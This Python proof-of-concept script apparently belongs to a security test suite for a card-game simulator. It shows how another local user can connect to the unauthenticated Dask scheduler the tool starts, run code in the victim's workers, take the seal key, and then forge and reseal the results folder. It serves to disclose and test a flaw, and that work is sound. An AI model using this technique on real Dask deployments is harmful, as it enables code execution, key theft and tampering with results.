# ruff: noqa: E501  (attack code: long report lines)
"""``--backend dask`` without ``--scheduler`` starts a local Dask cluster whose scheduler
listens on ``tcp://127.0.0.1:PORT`` with no authentication: any local process, of *any*
user, can connect a Dask client while the run plays and run code in the run's workers,
which are the user's processes (its environment, its files, its seal key). The seal then
protects nothing: the attacker takes the key and seals any forgery later.

The attacker here runs as ``nobody`` (``setpriv``: another user, who can neither read the
key, 0600 in the run user's config, nor signal the user's processes). It finds the
scheduler among the listening sockets of ``/proc/net/tcp`` (readable by every user),
connects, and asks each worker for its seal key (``client.run``). The results folder is on
a disk shared with it (``chmod -R o+w``, as the threat model has it: another writer of the
folder). Once the run has ended and sealed the folder, the attacker forges the seats table
(every score +500, planner winning every game) and seals the folder again with the key it
took (``sims.folder.seal`` under an ``XDG_CONFIG_HOME`` of its own). The key is never
printed: only whether the one taken is the run's (a digest compared by the script).

python dask24.py              # the whole attack (the run is root's here, the attacker nobody)
python dask24.py attacker F   # the attacker's part alone (what setpriv runs)
"""

from __future__ import annotations

import hashlib
import os
import shutil
import subprocess
import sys
import time
from pathlib import Path

from common import ROOT, cardgame, forge_compact, last_line, report, study_file

STOLEN = "/tmp/hp26r-nobody"  # the attacker's own folder (not under ROOT: another user's)


def listening() -> set[int]:
    """Ports listening on 127.0.0.1 with Dask's backlog (2048): its servers, no one else's."""
    out = subprocess.run(["ss", "-ltn"], capture_output=True, text=True).stdout
    return {
        int(line.split()[3].rsplit(":", 1)[1])
        for line in out.splitlines()
        if " 127.0.0.1:" in line and line.split()[2] == "2048"
    }


def steal(seen: set[int]) -> str | None:
    """Connect to a new listening port as a Dask client; the key of the first worker."""
    import logging
    import warnings

    from distributed import Client

    logging.disable(logging.CRITICAL)
    warnings.simplefilter("ignore")

    def key() -> str:
        from sims.folder import seal_key_path

        return os.getuid(), seal_key_path().read_text()

    for port in sorted(listening() - seen):
        seen.add(port)
        try:
            client = Client(f"tcp://127.0.0.1:{port}", timeout=5)
        except Exception:  # not a scheduler
            continue
        try:
            found = client.run(key)
        except Exception as exc:
            print(f"  attacker: connected to port {port}, run failed: {exc}")
            continue
        finally:
            client.close()
        if found:
            uids = sorted({uid for uid, _ in found.values()})
            print(
                f"  attacker (uid {os.getuid()}): a Dask scheduler at 127.0.0.1:{port}; its code ran in {len(found)} worker(s) of uid {uids}"
            )
            return next(iter(found.values()))[1]
    return None


def attacker(folder: str) -> None:
    shutil.rmtree(STOLEN, ignore_errors=True)
    os.makedirs(os.path.join(STOLEN, "cardgame"))
    seen: set[int] = set()
    end = time.time() + 120
    key = None
    while key is None and time.time() < end:
        key = steal(seen)
        time.sleep(0.2)
    if key is None:
        print("  attacker: no scheduler found")
        return
    Path(STOLEN, "cardgame", "seal.key").write_text(key)
    print(
        f"  attacker: took a key whose SHA-256 starts {hashlib.sha256(key.encode()).hexdigest()[:12]}"
    )
    while not Path(folder, "done").exists():  # the script says when the run ended
        time.sleep(0.2)
    forge_compact(
        os.path.join(folder, "seats", "compact.parquet"), os.path.join(STOLEN, "spare.parquet")
    )
    os.environ["XDG_CONFIG_HOME"] = STOLEN
    from sims.folder import seal

    os.remove(os.path.join(folder, "done"))
    seal(Path(folder))
    print("  attacker: forged seats/compact.parquet and sealed the folder with the key it took")


def main() -> None:
    path = study_file("dask24", 3000, 1)
    folder = os.path.join(ROOT, "dask24")
    twin = os.path.join(ROOT, "twin-dask24")
    for f in (folder, twin):
        shutil.rmtree(f, ignore_errors=True)
    done = cardgame("simulate", path, "--out", twin, "--workers", "1", "--no-progress")
    print(f"  twin run: exit {done.returncode}; {report(twin)}")
    os.makedirs(folder)
    os.chmod(folder, 0o777)  # a folder the other writer may write (a shared disk)
    os.chmod(ROOT, 0o755)
    here = os.path.dirname(os.path.abspath(__file__))
    # nobody cannot enter /root, where this venv's interpreter lives: the system's Python
    # (the same 3.11) with the venv's packages on its path
    site = os.path.join(
        os.path.dirname(os.path.dirname(sys.executable)), "lib", "python3.11", "site-packages"
    )
    repo = os.path.dirname(os.path.dirname(here))
    spy = subprocess.Popen(
        ["setpriv", "--reuid=65534", "--regid=65534", "--clear-groups",
         "/usr/bin/python3.11", "-W", "ignore", os.path.join(here, "dask24.py"), "attacker", folder],
        env={"PATH": os.environ["PATH"], "HOME": "/tmp", "HP26R": ROOT, "PYTHONPATH": f"{site}:{repo}:{here}"},
        stderr=subprocess.DEVNULL,
    )  # fmt: skip
    run = cardgame(
        "simulate", path, "--workers", "2", "--no-progress", "--backend", "dask", timeout=600
    )
    print(f"  the run (--backend dask, local cluster): exit {run.returncode}: {last_line(run)!r}")
    subprocess.run(["chmod", "-R", "o+w", folder], check=True)  # shared: the other writer's too
    Path(folder, "done").write_text("")
    spy.wait(timeout=300)
    mine = hashlib.sha256(
        Path(os.environ["XDG_CONFIG_HOME"], "cardgame", "seal.key").read_bytes()
    ).hexdigest()[:12]
    print(f"  the run's key's SHA-256 starts {mine}")
    print(f"  after: {report(folder)}")
    done = cardgame("report", folder, "--format", "md", "--out", folder + "-w.md")
    print(f"  report warns: {'warning' in done.stderr}; resume: ", end="")
    done = cardgame("simulate", path, "--workers", "1", "--no-progress", "--resume")
    print(f"exit {done.returncode}: {last_line(done)!r}")


if __name__ == "__main__":
    if sys.argv[1:2] == ["attacker"]:
        attacker(sys.argv[2])
    else:
        main()
